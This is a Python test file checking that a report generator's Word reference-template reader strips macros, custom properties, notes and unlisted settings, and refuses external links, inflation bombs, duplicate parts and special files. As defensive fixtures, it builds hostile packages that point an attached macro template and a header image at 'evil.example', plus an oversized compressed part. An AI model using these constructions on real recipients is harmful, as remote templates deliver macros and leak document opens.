"""The reference document is taken for what a reference is for: styles, numbering, theme,
fonts, allow-listed settings, headers and footers; the rest never reaches a Word file."""

from __future__ import annotations

import io
import os
import warnings
import zipfile
from pathlib import Path

import pytest

from reportgen.formats.docx_reference import MAX_PART_BYTES, ReferenceRefused, read_reference

SHIPPED = Path(__file__).resolve().parent.parent / "templates" / "reference.docx"
RELS = "word/_rels/document.xml.rels"
REL = ('<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
       'relationships/{kind}" Target="{target}"{mode}/>')


def _package(tmp_path: Path, changes: dict[str, bytes | str], extra_rels: list[str] = (),
             duplicate: str | None = None) -> Path:
    """The shipped reference with parts replaced or added, and relationships added."""
    with zipfile.ZipFile(SHIPPED) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    if extra_rels:
        parts[RELS] = parts[RELS].replace(b"</Relationships>",
                                          "".join(extra_rels).encode() + b"</Relationships>")
    parts.update({k: v.encode() if isinstance(v, str) else v for k, v in changes.items()})
    path = tmp_path / "reference.docx"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name, data in parts.items():
                out.writestr(name, data)
            if duplicate:
                out.writestr(duplicate, parts[duplicate])
    return path


def _names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [info.filename for info in package.infolist()]


def _text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "".join(package.read(n).decode("utf-8", "replace") for n in package.namelist())


def test_macros_custom_properties_and_notes_are_dropped(tmp_path):
    path = _package(tmp_path, {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
        "docProps/custom.xml": "<Properties>secret</Properties>",
        "word/footnotes.xml": "<w:footnotes xmlns:w='x'/>",
        "word/comments.xml": "<w:comments xmlns:w='x'/>",
    }, [REL.format(id="rId90", kind="vbaProject", target="vbaProject.bin", mode=""),
        REL.format(id="rId91", kind="footnotes", target="footnotes.xml", mode=""),
        REL.format(id="rId92", kind="comments", target="comments.xml", mode="")])
    reference = read_reference(path)
    names = _names(reference.data)
    assert not {"word/vbaProject.bin", "docProps/custom.xml", "word/footnotes.xml",
                "word/comments.xml"} & set(names)
    assert {"word/styles.xml", "word/numbering.xml", "word/theme/theme1.xml",
            "word/fontTable.xml", "word/settings.xml", "word/document.xml"} <= set(names)
    assert {"word/vbaProject.bin", "docProps/custom.xml", "word/footnotes.xml",
            "word/comments.xml"} <= set(reference.dropped)
    assert "vbaProject" not in _text(reference.data) and "macroEnabled" not in _text(reference.data)
    assert len(names) == len(set(names))


def test_an_attached_template_and_unlisted_settings_are_dropped(tmp_path):
    with zipfile.ZipFile(SHIPPED) as source:
        settings = source.read("word/settings.xml").decode()
    settings = settings.replace("<w:defaultTabStop", '<w:attachedTemplate r:id="rId1" '
                                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                                '2006/relationships"/><w:docVars><w:docVar w:name="a" '
                                'w:val="b"/></w:docVars><w:defaultTabStop', 1)
    path = _package(tmp_path, {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships">' + REL.format(id="rId1", kind="attachedTemplate",
                                           target="http://evil.example/t.dotm",
                                           mode=' TargetMode="External"') + "</Relationships>")})
    reference = read_reference(path)
    text = _text(reference.data)
    assert "attachedTemplate" not in text and "docVar" not in text
    assert "evil.example" not in text and "External" not in text
    assert "defaultTabStop" in text


def test_an_external_picture_in_a_header_is_refused(tmp_path):
    header = ('<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              '<w:p/></w:hdr>')
    path = _package(tmp_path, {
        "word/header1.xml": header,
        "word/_rels/header1.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships">' + REL.format(id="rId1", kind="image",
                                           target="http://evil.example/p.png",
                                           mode=' TargetMode="External"') + "</Relationships>")},
        [REL.format(id="rId93", kind="header", target="header1.xml", mode="")])
    with pytest.raises(ReferenceRefused) as caught:
        read_reference(path)
    assert caught.value.reason == ("part 'word/header1.xml' points outside the package "
                                   "(http://evil.example/p.png); a reference may not")


def test_a_part_that_inflates_past_the_limit_is_refused_before_it_is_read(tmp_path):
    path = _package(tmp_path, {"word/media/big.bin": bytes(MAX_PART_BYTES + 1)})
    assert path.stat().st_size < 200_000  # a few kilobytes that claim megabytes
    with pytest.raises(ReferenceRefused) as caught:
        read_reference(path)
    assert caught.value.reason == ("part 'word/media/big.bin' is 8.0 MB once inflated; "
                                   "the limit is 8 MB")


def test_two_parts_of_one_name_are_refused(tmp_path):
    path = _package(tmp_path, {}, duplicate="word/styles.xml")
    with pytest.raises(ReferenceRefused) as caught:
        read_reference(path)
    assert caught.value.reason == "holds two parts named 'word/styles.xml'"


@pytest.mark.parametrize("make, reason", [
    (lambda p: p.symlink_to(SHIPPED), "is a symbolic link; links are not followed"),
    (lambda p: os.mkfifo(p), "is a named pipe (FIFO), not a file"),
    (lambda p: p.mkdir(), "is a folder where a file is expected"),
    (lambda p: os.link(p.with_name("twin.docx"), p), "has 2 names (a hard link)"),
])
def test_the_reference_is_opened_like_every_workspace_file(workspace, run, make, reason):
    path = workspace / "templates" / "reference.docx"
    path.rename(path.with_name("twin.docx"))  # a copy of the workspace's own, to link to
    make(path)
    result = run("build", "--root", str(workspace), "--period", "2022-2024", "--format",
                 "docx", "--kind", "report")
    assert result.exit_code == 1
    assert result.output.splitlines()[0].startswith(
        f"templates/reference.docx: error: {reason}")
    assert not (workspace / "build" / "2022-2024").exists()


@pytest.mark.slow
def test_a_build_with_a_hostile_reference_carries_none_of_it(workspace, run, tmp_path):
    hostile = _package(tmp_path, {"word/vbaProject.bin": b"macro",
                                  "docProps/custom.xml": "<Properties>secret</Properties>",
                                  "word/footnotes.xml": "<w:footnotes xmlns:w='x'/>"},
                       [REL.format(id="rId90", kind="vbaProject", target="vbaProject.bin",
                                   mode=""),
                        REL.format(id="rId91", kind="footnotes", target="footnotes.xml",
                                   mode="")])
    (workspace / "templates" / "reference.docx").write_bytes(hostile.read_bytes())
    result = run("build", "--root", str(workspace), "--period", "2020-2022", "--format",
                 "docx")
    assert result.exit_code == 0, result.output
    said = [line for line in result.output.splitlines() if "reference.docx" in line]
    assert said == ["templates/reference.docx: warning: parts a reference is not for are left "
                    "out of the Word files: docProps/custom.xml, word/footnotes.xml, "
                    "word/vbaProject.bin"]
    data = (workspace / "build/2020-2022/report.docx").read_bytes()
    names = _names(data)
    assert len(names) == len(set(names))  # one word/footnotes.xml, the writer's own
    assert "word/vbaProject.bin" not in names
    # the custom properties are the writer's own (the store's fingerprint), not the template's
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        custom = package.read("docProps/custom.xml").decode("utf-8")
    assert "reportgen-store" in custom and "secret" not in custom
    assert "secret" not in _text(data)


@pytest.mark.slow
def test_the_shipped_reference_is_used_without_a_warning(workspace, run):
    result = run("build", "--root", str(workspace), "--period", "2020-2022", "--format",
                 "docx", "--kind", "report")
    assert result.exit_code == 0, result.output
    assert "reference.docx" not in result.output
